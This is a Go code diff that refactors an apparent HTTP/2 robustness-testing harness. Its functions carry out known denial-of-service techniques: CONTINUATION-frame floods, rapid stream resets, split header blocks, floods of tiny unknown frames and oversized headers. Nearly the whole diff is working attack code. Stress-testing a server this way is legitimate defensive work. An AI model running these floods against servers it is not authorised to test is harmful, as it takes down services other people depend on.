@@ -22,11 +22,12 @@ var frameAttacks = []Attack{
 }
 
 // shredded sends a header block as so many empty CONTINUATION frames and one that
-// holds all. The caller has a place for the stream.
-func (h *connection) shredded(header []hpack.HeaderField, pieces int) (stream uint32, sent bool) {
+// holds all, and says whether the connection took it.
+func (h *connection) shredded(header []hpack.HeaderField, pieces int) bool {
 	h.places <- struct{}{}
-	sent = h.write(func() error {
-		stream = h.begin()
+	h.crowd.note(func(o *Outcome) { o.Calls++ })
+	return h.write(func() error {
+		stream := h.begin()
 		if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream}); err != nil {
 			return err
 		}
@@ -39,39 +40,26 @@ func (h *connection) shredded(header []hpack.HeaderField, pieces int) (stream ui
 		}
 		return h.framer.WriteContinuation(stream, true, h.encode(header))
 	})
-	h.crowd.note(func(o *Outcome) { o.Calls++ })
-	return stream, sent
 }
 
 func continuations(c *crowd) {
-	header, first := c.header(publish, native), append(prefix(largestMessage, false), 0x0a)
-	c.each(20, func(int) {
-		c.again(time.Second, func() {
-			h := c.connect(65535, true)
-			if h == nil {
-				return
+	header, first := c.header(publish), append(prefix(largestMessage, false), 0x0a)
+	c.comes(20, time.Second, 65535, true, func(h *connection) {
+		taken := h.shredded(header, 16_000)
+		for n := 0; taken && n < openStreams-2; n++ {
+			if id := h.open(header); id == 0 || !h.send(id, first, false) {
+				break
 			}
-			if _, sent := h.shredded(header, 16_000); sent {
-				for range openStreams - 2 {
-					if id := h.open(header, false); id == 0 || !h.send(id, first, false) {
-						break
-					}
-				}
-			}
-			h.wait()
-		})
+		}
+		h.wait()
 	})
 }
 
 func emptyContinuations(c *crowd) {
-	header := c.header(query, native)
-	c.each(200, func(int) {
-		c.again(time.Second, func() {
-			if h := c.connect(65535, true); h != nil {
-				h.shredded(header, 5_000)
-				h.wait()
-			}
-		})
+	header := c.header(query)
+	c.comes(200, time.Second, 65535, true, func(h *connection) {
+		h.shredded(header, 5_000)
+		h.wait()
 	})
 }
 
@@ -79,20 +67,10 @@ func emptyContinuations(c *crowd) {
 // connection at some point; the attacker comes back.
 func rapidReset(c *crowd) {
 	const aTick, perTick = 10 * time.Millisecond, 100_000 // bytes
-	c.each(1, func(int) {
-		c.again(50*time.Millisecond, func() {
-			h := c.connect(65535, true)
-			if h == nil {
-				return
-			}
-			defer h.Close()
-			header := c.header(query, native)
-			for !h.isOver() && c.rest(aTick) {
-				if !h.resets(header, perTick) {
-					break
-				}
-			}
-		})
+	header := c.header(query)
+	c.comes(1, 50*time.Millisecond, 65535, true, func(h *connection) {
+		for !h.isOver() && c.rest(aTick) && h.resets(header, perTick) {
+		}
 	})
 }
 
@@ -126,47 +104,33 @@ func (b *batch) Write(p []byte) (int, error) {
 func splitHeaders(c *crowd) {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
-	for _, field := range c.header(query, native) {
+	for _, field := range c.header(query) {
 		_ = encoder.WriteField(field) // to memory
 	}
-	c.each(500, func(int) {
-		c.again(time.Second, func() {
-			// Without the acknowledgements of a connection: nothing may come between halves.
-			conn := c.dial(http2.NextProtoTLS)
-			if conn == nil {
-				return
-			}
-			defer conn.Close()
-			framer := http2.NewFramer(conn, nil)
-			_, _ = conn.Write([]byte(http2.ClientPreface))
-			_ = framer.WriteSettings()
-			_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()[:block.Len()/2]})
-			if _, err := io.Copy(io.Discard, conn); err == nil {
-				c.ended("connection closed")
-			}
-		})
+	// Without the acknowledgements of a connection: nothing may come between halves.
+	c.visits(500, time.Second, http2.NextProtoTLS, func(conn net.Conn) {
+		framer := http2.NewFramer(conn, nil)
+		_, _ = conn.Write([]byte(http2.ClientPreface))
+		_ = framer.WriteSettings()
+		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()[:block.Len()/2]})
+		if _, err := io.Copy(io.Discard, conn); err == nil {
+			c.ended("connection closed")
+		}
 	})
 }
 
 // tinyFrames makes a reader that looks for the first headers look 7,000 times.
 func tinyFrames(c *crowd) {
 	unknown := []byte{0, 0, 0, 0xfa, 0, 0, 0, 0, 0} // a frame that is to be ignored
-	c.each(20, func(int) {
-		c.again(100*time.Millisecond, func() {
-			conn := c.dial(http2.NextProtoTLS)
-			if conn == nil {
+	c.visits(20, 100*time.Millisecond, http2.NextProtoTLS, func(conn net.Conn) {
+		_, _ = conn.Write(append([]byte(http2.ClientPreface), 0, 0, 0, byte(http2.FrameSettings), 0, 0, 0, 0, 0))
+		for range 7_000 {
+			if _, err := conn.Write(unknown); err != nil {
+				c.ended("connection closed")
 				return
 			}
-			defer conn.Close()
-			_, _ = conn.Write(append([]byte(http2.ClientPreface), 0, 0, 0, byte(http2.FrameSettings), 0, 0, 0, 0, 0))
-			for range 7_000 {
-				if _, err := conn.Write(unknown); err != nil {
-					c.ended("connection closed")
-					return
-				}
-			}
-			drain(conn)
-		})
+		}
+		drain(conn)
 	})
 }
 
@@ -183,22 +147,15 @@ func drain(conn net.Conn) {
 
 func largeHeaders(c *crowd) {
 	large := strings.Repeat("x", 6_000)
-	header := c.header(query, native, hpack.HeaderField{Name: "x-a", Value: large}, hpack.HeaderField{Name: "x-b", Value: large + "b"}, hpack.HeaderField{Name: "x-c", Value: large + "c"})
-	body := framed(encoded(nil))
-	c.each(20, func(int) {
-		c.again(100*time.Millisecond, func() {
-			h := c.connect(65535, true)
-			if h == nil {
+	header := c.header(query, hpack.HeaderField{Name: "x-a", Value: large}, hpack.HeaderField{Name: "x-b", Value: large + "b"}, hpack.HeaderField{Name: "x-c", Value: large + "c"})
+	body := framed(nil)
+	c.comes(20, 100*time.Millisecond, 65535, true, func(h *connection) {
+		for c.rest(20 * time.Millisecond) {
+			id := h.open(header)
+			if id == 0 {
 				return
 			}
-			defer h.Close()
-			for c.rest(20 * time.Millisecond) {
-				id := h.open(header, false)
-				if id == 0 {
-					return
-				}
-				h.send(id, body, true) // refused by then, maybe
-			}
-		})
+			h.send(id, body, true) // refused by then, maybe
+		}
 	})
 }
